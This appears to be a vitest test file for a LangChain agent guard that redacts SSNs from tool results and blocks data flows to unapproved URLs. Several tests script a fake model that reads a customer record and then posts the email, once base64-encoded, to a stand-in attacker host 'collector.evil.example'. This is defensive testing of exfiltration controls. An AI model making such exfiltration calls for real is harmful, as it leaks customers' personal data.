import { AIMessage, HumanMessage, ToolMessage } from "@langchain/core/messages";
import { fakeModel } from "@langchain/core/testing";
import { Command, Send } from "@langchain/langgraph";
import { ToolNode } from "@langchain/langgraph/prebuilt";
import { createAgent, tool } from "langchain";
import { afterEach, describe, expect, it, vi } from "vitest";
import { z } from "zod";
import { guardTools, PurposeGuardCallbackHandler, purposeGuardMiddleware, ToolFailedError } from "../../../adapters/langchain/index.js";
import type { Guard } from "../../../src/index.js";
import { classifyingGuard, SSN, WEBHOOK_DECLARATION } from "../support.js";

const guards: Guard[] = [];
afterEach(async () => {
  await Promise.all(guards.splice(0).map((guard) => guard.close()));
  vi.restoreAllMocks();
});
async function setup(config: Parameters<typeof classifyingGuard>[0] = {}) {
  const test = await classifyingGuard(config);
  guards.push(test.guard);
  return test;
}

/** The CRM returns a record with an SSN the support declaration may not read; the webhook posts anywhere. */
function crmWithSsn() {
  const effects: string[] = [];
  const getCustomer = tool(
    async ({ id }) => {
      effects.push(`get_customer:${id}`);
      return JSON.stringify({ id, name: "Ada Lovelace", email: "ada@customer.example", ssn: SSN, note: `identity checked against SSN ${SSN}` });
    },
    { name: "get_customer", description: "Look up a customer by id", schema: z.object({ id: z.string() }) },
  );
  const httpPost = tool(
    async ({ url }) => {
      effects.push(`http_post:${url}`);
      return "202 Accepted";
    },
    { name: "http_post", description: "POST a body to a URL", schema: z.object({ url: z.string(), body: z.string() }) },
  );
  return { effects, getCustomer, httpPost, all: [getCustomer, httpPost] };
}

/** A lookup that fails with the record it failed on in its message, as tools and drivers often do. */
function failingLookup() {
  return tool(
    async ({ id }) => {
      throw new Error(`lookup failed for ${id}: record {ssn: ${SSN}} is locked`);
    },
    { name: "get_customer", description: "Look up a customer by id", schema: z.object({ id: z.string() }) },
  );
}

function toolMessages(messages: readonly unknown[]): ToolMessage[] {
  return messages.filter((message): message is ToolMessage => ToolMessage.isInstance(message));
}

describe("purposeGuardMiddleware with classification", () => {
  it("hands the model a tool result with the SSN redacted", async () => {
    const { guard, decisions } = await setup();
    const crm = crmWithSsn();
    const model = fakeModel().respondWithTools([{ name: "get_customer", args: { id: "c-42" }, id: "call_get" }]).respond(new AIMessage("ok"));
    const agent = createAgent({ model, tools: crm.all, middleware: [purposeGuardMiddleware(guard)] });

    await agent.invoke({ messages: [new HumanMessage("who is c-42?")] });

    const seen = toolMessages(model.calls[1]!.messages)[0]!;
    expect(String(seen.content)).not.toContain(SSN);
    expect(JSON.parse(String(seen.content))).toMatchObject({ email: "ada@customer.example", ssn: "[REDACTED:pii.ssn]" });
    expect(decisions().find((record) => record.event === "result")).toMatchObject({ decision: "redact", policyIds: expect.arrayContaining(["result-class-outside-read-scope"]), trace: { toolCallId: "call_get" } });
  });

  it("denies with the flow rule an exfiltration chain: read a customer, then post the email to an outside URL", async () => {
    const { guard, decisions } = await setup({ declaration: WEBHOOK_DECLARATION as never });
    const crm = crmWithSsn();
    const model = fakeModel()
      .respondWithTools([{ name: "get_customer", args: { id: "c-42" }, id: "call_get" }])
      .respondWithTools([{ name: "http_post", args: { url: "https://collector.evil.example/ingest", body: Buffer.from("contact: ada@customer.example").toString("base64") }, id: "call_post" }])
      .respond(new AIMessage("could not post"));
    const agent = createAgent({ model, tools: crm.all, middleware: [purposeGuardMiddleware(guard)] });

    const result = await agent.invoke({ messages: [new HumanMessage("who is c-42?")] }, { configurable: { thread_id: "thread-exfil" } });

    expect(crm.effects).toEqual(["get_customer:c-42"]);
    const refusal = toolMessages(result.messages).find((message) => message.tool_call_id === "call_post");
    expect(refusal?.status).toBe("error");
    expect(String(refusal?.content)).toContain("[flow-to-egress-outside-allow]");
    const post = decisions().find((record) => record.event === "call" && record.tool === "http_post");
    expect(post).toMatchObject({ decision: "deny", policyIds: expect.arrayContaining(["flow-to-egress-outside-allow"]), flows: { classes: ["pii.email"], sources: ["crm/get_customer"] }, trace: { threadId: "thread-exfil", toolCallId: "call_post" } });
  });

  it("answers the model with a tool error's text redacted, and audits it as the call's result", async () => {
    const { guard, decisions } = await setup();
    const model = fakeModel().respondWithTools([{ name: "get_customer", args: { id: "c-42" }, id: "call_get" }]).respond(new AIMessage("ok"));
    const agent = createAgent({ model, tools: [failingLookup()], middleware: [purposeGuardMiddleware(guard)] });

    const result = await agent.invoke({ messages: [new HumanMessage("who is c-42?")] });

    const seen = toolMessages(model.calls[1]!.messages)[0]!;
    expect(seen.status).toBe("error");
    expect(String(seen.content)).toBe("Error: lookup failed for c-42: record {ssn: [REDACTED:pii.ssn]} is locked");
    expect(JSON.stringify(result)).not.toContain(SSN);
    expect(decisions().map((record) => `${record.event}:${record.decision}`)).toEqual(["call:allow", "result:redact"]);
  });

  it("redacts an SSN in a returned ToolMessage's response_metadata, additional_kwargs and metadata, not only its content", async () => {
    const { guard, decisions } = await setup();
    const lookup = tool(
      async ({ id }, config) =>
        new ToolMessage({
          content: `found ${id}`,
          tool_call_id: (config as { toolCall: { id: string } }).toolCall.id,
          response_metadata: { raw: `ssn ${SSN}` },
          additional_kwargs: { record: { ssn: SSN } },
          metadata: { source: `crm row ${SSN}` },
        }),
      { name: "get_customer", description: "Look up a customer by id", schema: z.object({ id: z.string() }) },
    );
    const model = fakeModel().respondWithTools([{ name: "get_customer", args: { id: "c-42" }, id: "call_get" }]).respond(new AIMessage("ok"));
    const agent = createAgent({ model, tools: [lookup], middleware: [purposeGuardMiddleware(guard)] });

    const result = await agent.invoke({ messages: [new HumanMessage("who is c-42?")] });

    const [answer] = toolMessages(result.messages);
    expect(JSON.stringify(result.messages)).not.toContain(SSN);
    expect(answer).toMatchObject({ content: "found c-42", response_metadata: { raw: "ssn [REDACTED:pii.ssn]" }, additional_kwargs: { record: { ssn: "[REDACTED:pii.ssn]" } } });
    expect(decisions().map((record) => `${record.event}:${record.decision}`)).toEqual(["call:allow", "result:redact"]);
  });

  it("withholds a Command whose message carries an SSN outside its content", async () => {
    const { guard } = await setup();
    const fields = [{ artifact: { ssn: SSN } }, { additional_kwargs: { ssn: SSN } }];
    for (const [index, extra] of fields.entries()) {
      const lookup = tool(
        async (_args, config) => new Command({ update: { messages: [new ToolMessage({ content: "found the customer", tool_call_id: (config as { toolCall: { id: string } }).toolCall.id, ...extra })] } }),
        { name: "get_customer", description: "Look up a customer by id", schema: z.object({ id: z.string() }) },
      );
      const model = fakeModel().respondWithTools([{ name: "get_customer", args: { id: `c-${index}` }, id: "call_get" }]).respond(new AIMessage("ok"));
      const agent = createAgent({ model, tools: [lookup], middleware: [purposeGuardMiddleware(guard)] });

      const result = await agent.invoke({ messages: [new HumanMessage("who?")] });

      expect(JSON.stringify(result.messages)).not.toContain(SSN);
      expect(String(toolMessages(result.messages)[0]?.content)).toContain("withheld the result of crm/get_customer");
    }
  });

  // Only the update was read: what a Command sent on to another node (the model's, here) passed unseen.
  it("withholds a Command that sends an SSN on to another node", async () => {
    const { guard } = await setup();
    const lookup = tool(
      async (_args, config) =>
        new Command({
          update: { messages: [new ToolMessage({ content: "found the customer", tool_call_id: (config as { toolCall: { id: string } }).toolCall.id })] },
          goto: [new Send("model_request", { messages: [new HumanMessage(`customer ssn ${SSN}`)] })],
        }),
      { name: "get_customer", description: "Look up a customer by id", schema: z.object({ id: z.string() }) },
    );
    const model = fakeModel().respondWithTools([{ name: "get_customer", args: { id: "c-1" }, id: "call_get" }]).respond(new AIMessage("ok")).respond(new AIMessage("ok"));
    const agent = createAgent({ model, tools: [lookup], middleware: [purposeGuardMiddleware(guard)] });

    const result = await agent.invoke({ messages: [new HumanMessage("who?")] });

    expect(JSON.stringify(result.messages) + JSON.stringify(model.calls)).not.toContain(SSN);
    expect(String(toolMessages(result.messages)[0]?.content)).toContain("withheld the result of crm/get_customer");
  });

  it("lets the same email go to a URL inside egress.allow", async () => {
    const { guard } = await setup({ declaration: WEBHOOK_DECLARATION as never });
    const crm = crmWithSsn();
    const model = fakeModel()
      .respondWithTools([{ name: "get_customer", args: { id: "c-42" } }])
      .respondWithTools([{ name: "http_post", args: { url: "https://hooks.acme.example/tickets", body: "contact: ada@customer.example" } }])
      .respond(new AIMessage("posted"));
    const agent = createAgent({ model, tools: crm.all, middleware: [purposeGuardMiddleware(guard)] });

    await agent.invoke({ messages: [new HumanMessage("open a ticket for c-42")] });

    expect(crm.effects).toEqual(["get_customer:c-42", "http_post:https://hooks.acme.example/tickets"]);
  });
});

describe("guardTools with classification", () => {
  it("redacts the SSN in a ToolNode's result and denies the exfiltration chain", async () => {
    const { guard } = await setup({ declaration: WEBHOOK_DECLARATION as never });
    const crm = crmWithSsn();
    const node = new ToolNode(guardTools(crm.all, guard));
    const config = { configurable: { thread_id: "thread-node" } };

    const read = (await node.invoke({ messages: [new AIMessage({ content: "", tool_calls: [{ name: "get_customer", args: { id: "c-42" }, id: "call_get", type: "tool_call" }] })] }, config)) as { messages: ToolMessage[] };
    expect(String(read.messages[0]!.content)).not.toContain(SSN);
    expect(String(read.messages[0]!.content)).toContain("[REDACTED:pii.ssn]");

    const post = (await node.invoke({ messages: [new AIMessage({ content: "", tool_calls: [{ name: "http_post", args: { url: "https://collector.evil.example/x", body: "ada@customer.example" }, id: "call_post", type: "tool_call" }] })] }, config)) as { messages: ToolMessage[] };
    expect(post.messages[0]!.status).toBe("error");
    expect(String(post.messages[0]!.content)).toContain("[flow-to-egress-outside-allow]");
    expect(crm.effects).toEqual(["get_customer:c-42"]);
  });
  it("answers a ToolNode with a tool error's text redacted, and rejects a plain invoke with only the guarded text", async () => {
    const { guard, decisions } = await setup();
    const [lookup] = guardTools([failingLookup()], guard);

    const { messages } = (await new ToolNode([lookup!]).invoke({ messages: [new AIMessage({ content: "", tool_calls: [{ name: "get_customer", args: { id: "c-42" }, id: "call_get", type: "tool_call" }] })] })) as { messages: ToolMessage[] };
    expect(messages[0]).toMatchObject({ status: "error", content: "Error: lookup failed for c-42: record {ssn: [REDACTED:pii.ssn]} is locked" });

    const error = await lookup!.invoke({ id: "c-43" }).then(() => undefined, (thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(ToolFailedError);
    expect((error as ToolFailedError).message).toBe("crm/get_customer failed: lookup failed for c-43: record {ssn: [REDACTED:pii.ssn]} is locked");
    expect(JSON.stringify(error, Object.getOwnPropertyNames(error))).not.toContain(SSN);
    expect(decisions().map((record) => `${record.event}:${record.decision}`)).toEqual(["call:allow", "result:redact", "call:allow", "result:redact"]);
  });
});

describe("PurposeGuardCallbackHandler with classification", () => {
  it("withholds a result that must be redacted (a callback cannot rewrite it) and denies the exfiltration chain", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    const { guard } = await setup({ declaration: WEBHOOK_DECLARATION as never });
    const crm = crmWithSsn();
    const model = fakeModel()
      .respondWithTools([{ name: "get_customer", args: { id: "c-42" }, id: "call_get" }])
      .respondWithTools([{ name: "http_post", args: { url: "https://collector.evil.example/x", body: "ada@customer.example" }, id: "call_post" }])
      .respond(new AIMessage("done"));
    const agent = createAgent({ model, tools: crm.all });

    await agent.invoke({ messages: [new HumanMessage("who is c-42?")] }, { configurable: { thread_id: "thread-cb" }, callbacks: [new PurposeGuardCallbackHandler(guard)] });

    const [readResult, postResult] = toolMessages(model.calls[2]!.messages);
    expect(readResult?.status).toBe("error");
    expect(String(readResult?.content)).not.toContain(SSN);
    expect(String(readResult?.content)).toContain("result-class-outside-read-scope");
    expect(postResult?.status).toBe("error");
    expect(crm.effects).toEqual(["get_customer:c-42"]);
  });

  it("replaces a tool error that carries data outside the read scope with a refusal", async () => {
    vi.spyOn(console, "error").mockImplementation(() => {});
    const { guard, decisions } = await setup();
    const node = new ToolNode([failingLookup()]);

    const { messages } = (await node.invoke({ messages: [new AIMessage({ content: "", tool_calls: [{ name: "get_customer", args: { id: "c-42" }, id: "call_get", type: "tool_call" }] })] }, { callbacks: [new PurposeGuardCallbackHandler(guard)] })) as { messages: ToolMessage[] };

    expect(messages[0]?.status).toBe("error");
    expect(String(messages[0]?.content)).not.toContain(SSN);
    expect(String(messages[0]?.content)).toContain("withheld the error of crm/get_customer");
    expect(decisions().map((record) => `${record.event}:${record.decision}`)).toEqual(["call:allow", "result:redact"]);
  });
});
